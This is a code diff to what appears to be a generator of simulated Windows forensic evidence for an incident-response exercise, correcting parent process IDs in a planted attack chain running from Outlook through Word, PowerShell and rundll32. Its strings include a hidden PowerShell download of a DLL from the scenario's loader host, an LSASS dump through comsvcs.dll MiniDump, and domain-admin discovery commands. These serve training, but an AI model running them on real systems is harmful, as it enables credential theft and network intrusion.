@@ -41,12 +41,12 @@ const nothing = (): Planted => ({
 const rundll = 'C:\\Windows\\System32\\rundll32.exe'
 const shell = 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe'
 const word = 'C:\\Program Files\\Office\\WINWORD.EXE'
-const loaderPid = 7332
+const [wordPid, shellPid, loaderPid] = [6104, 6990, 7332]
 const addressOf = { [patientZero]: '192.0.2.26', [secondStation]: '192.0.2.31' }
 
-const loader = (username: string, started: number): win.Process => ({
+const loader = (username: string, started: number, ppid: number): win.Process => ({
   pid: loaderPid,
-  ppid: 6104,
+  ppid,
   path: rundll,
   commandLine: `rundll32.exe ${story.dll},Start`,
   username,
@@ -55,8 +55,8 @@ const loader = (username: string, started: number): win.Process => ({
 })
 
 /** The loader runs, stays and calls home: the same on every workstation that it reached. */
-function implant(making: Making, started: number): Planted {
-  const process = loader(win.nameOf(making), started)
+function implant(making: Making, started: number, ppid: number): Planted {
+  const process = loader(win.nameOf(making), started, ppid)
   const { ip, name } = story.loader
   const taskTime = started + 120_000
   return {
@@ -79,20 +79,32 @@ function implant(making: Making, started: number): Planted {
 function onPatientZero(making: Making): Planted {
   const { now, host } = making
   const user = win.nameOf(making)
-  const planted = implant(making, at(now, 'loaded'))
+  const planted = implant(making, at(now, 'loaded'), shellPid)
   const mail = `C:\\Users\\${host.user}\\Downloads\\${story.mail}`
+  const numberOf: Record<string, number> = {
+    [win.outlook]: win.pids.outlook,
+    [word]: wordPid,
+    [shell]: shellPid,
+    [rundll]: loaderPid,
+  }
   const start = (step: Parameters<typeof at>[1], pid: number, path: string, commandLine: string, parent: string) =>
-    logs.processStart({ at: at(now, step), pid, ppid: 6104, path, commandLine, parent, user })
+    logs.processStart({ at: at(now, step), pid, ppid: numberOf[parent]!, path, commandLine, parent, user })
   const fetch = `powershell -w hidden -c "iwr http://${story.loader.name}/u/a.dat -OutFile ${story.dll}"`
+  const open = `"${word}" /n "${mail}"`
   const dump = `rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 712 ${story.dump} full`
+  const opened = { username: user, trusted: true, started: at(now, 'opened') }
+  planted.processes.push(
+    { ...opened, pid: wordPid, ppid: win.pids.outlook, path: word, commandLine: open },
+    { ...opened, pid: shellPid, ppid: wordPid, path: shell, commandLine: fetch, started: at(now, 'download') },
+  )
   planted.files.push(
     win.fileRow(120_390, mail, 88_213, at(now, 'opened', -20)),
     win.fileRow(120_502, story.dump, 61_204_480, at(now, 'dump', 3)),
   )
   planted.prefetch.push(win.prefetchRow(shell, [at(now, 'download')], 2))
   planted.sysmon.push(
-    start('opened', 6104, word, `"${word}" /n "${mail}"`, 'C:\\Program Files\\Office\\OUTLOOK.EXE'),
-    start('download', 6990, shell, fetch, word),
+    start('opened', wordPid, word, open, win.outlook),
+    start('download', shellPid, shell, fetch, word),
     start('loaded', loaderPid, rundll, `rundll32.exe ${story.dll},Start`, shell),
     start('discovery', 7410, 'C:\\Windows\\System32\\net.exe', 'net group "Domain Admins" /domain', rundll),
     start('discovery', 7418, 'C:\\Windows\\System32\\nltest.exe', 'nltest /dclist:', rundll),
@@ -125,6 +137,7 @@ function onFileServer(making: Making): Planted {
   const service = {
     ...rclone,
     pid: 8104,
+    ppid: win.pids.services,
     path: story.serviceExe,
     commandLine: story.serviceExe,
     started: at(now, 'service'),
@@ -171,7 +184,7 @@ export function plantedOnWindows(making: Making): Planted {
   if (host.name === fileServer) return onFileServer(making)
   if (host.name === domainController) return onDomainController(making)
   if (host.name !== secondStation) return nothing()
-  const planted = implant(making, at(now, 'second'))
+  const planted = implant(making, at(now, 'second'), win.pids.explorer)
   planted.security.push(
     logs.logon(making, { at: at(now, 'second', -40), user: story.account, from: addressOf[patientZero]!, type: 10 }),
   )
